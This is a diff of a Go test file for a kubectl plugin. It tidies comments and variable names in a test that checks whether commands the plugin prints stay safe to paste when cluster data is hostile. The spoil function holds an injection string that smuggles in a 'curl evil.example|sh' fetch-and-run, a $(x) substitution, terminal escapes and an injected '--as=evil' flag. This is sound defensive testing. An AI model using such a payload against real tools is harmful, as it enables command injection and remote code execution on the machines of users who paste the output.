@@ -19,8 +19,8 @@ import (
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
 )
 
-// spoiledBundle is a copy of a bundle in which is said, wherever the user of a namespace
-// or a worker's administrator may say anything, what is a command to whoever pastes it.
+// spoiledBundle returns a copy of a bundle in which every text that the user of a namespace or a
+// worker's administrator can write is a command that harms a user who pastes it.
 func spoiledBundle(t *testing.T, dir string) string {
 	t.Helper()
 	spoiled := t.TempDir()
@@ -43,7 +43,7 @@ func spoiledBundle(t *testing.T, dir string) string {
 	return spoiled
 }
 
-// spoil changes what may hold any text.
+// spoil replaces every field that may have any text.
 func spoil(value any, path ...string) any {
 	const evil = "; `curl evil.example|sh` #'\"$(x)\n\x1b[2J\u202e --as=evil"
 	switch v := value.(type) {
@@ -70,9 +70,9 @@ func spoil(value any, path ...string) any {
 	return value
 }
 
-// TestHostileBundles: of all that the reading commands print of clusters in which somebody
-// thinks of whoever pastes, each command is one that a shell takes as it was meant; ours
-// read the words as the options that they were made of.
+// TestHostileBundles: every command in the output of the reading commands for hostile clusters is
+// safe to paste. A shell takes it as intended, and our own commands parse the words as the
+// options that they were made of.
 func TestHostileBundles(t *testing.T) {
 	skipIfShort(t)
 	dirs, err := filepath.Glob(recordings + "/*/snapshot.yaml")
@@ -83,12 +83,12 @@ func TestHostileBundles(t *testing.T) {
 		t.Run(filepath.Base(dir), func(t *testing.T) {
 			bundle := spoiledBundle(t, dir)
 			for _, args := range [][]string{{"check", "-A", "--grace", "0s", "--all-contexts"}, {"trace", "-A"}, {"trace", tracedJob(filepath.Base(dir))}} {
-				out, told, code := run(t, append(args, "-o", "json", "--from", bundle)...)
-				assert.Assert(t, code != util.ExitUsage, told)
+				out, errOut, code := run(t, append(args, "-o", "json", "--from", bundle)...)
+				assert.Assert(t, code != util.ExitUsage, errOut)
 				var document any
 				// Not every fleet has such a Job.
 				assert.Assert(t, out == "" && code == util.ExitError || json.Unmarshal([]byte(out), &document) == nil, out)
-				for _, text := range append(remediesIn(document), told) {
+				for _, text := range append(remediesIn(document), errOut) {
 					for _, part := range command.Prose(text).Parts() {
 						if part.IsCommand {
 							found++
@@ -102,8 +102,8 @@ func TestHostileBundles(t *testing.T) {
 	assert.Assert(t, found > 30, "only %d commands were printed", found)
 }
 
-// remediesIn are what findings anywhere in a document say is to be done. What they quote as
-// evidence is somebody else's, and told as that.
+// remediesIn returns the remedies of findings anywhere in a document. Texts that they quote as
+// evidence come from others, and are shown as such.
 func remediesIn(value any) (remedies []string) {
 	switch v := value.(type) {
 	case map[string]any:
@@ -121,7 +121,7 @@ func remediesIn(value any) (remedies []string) {
 	return remedies
 }
 
-// checkPrinted checks a command that was printed.
+// checkPrinted checks a printed command.
 func checkPrinted(t *testing.T, text string) {
 	t.Helper()
 	for _, words := range shelltest.Pipeline(t, text) {
@@ -132,11 +132,11 @@ func checkPrinted(t *testing.T, text string) {
 	}
 }
 
-// checkOwn checks that the words of a command of ours are read back as they were meant:
-// each flag has as its value what stands behind it, and no argument is a flag.
+// checkOwn checks that a command of ours is parsed as intended: each flag has its own value, and
+// no argument is a flag.
 func checkOwn(t *testing.T, words []string) {
 	t.Helper()
-	called := given(t, words[0], words[1:]...)
+	called := parsedCommand(t, words[0], words[1:]...)
 	read := map[string]string{}
 	called.Flags().Visit(func(flag *pflag.Flag) {
 		read[flag.Name] = flag.Value.String()
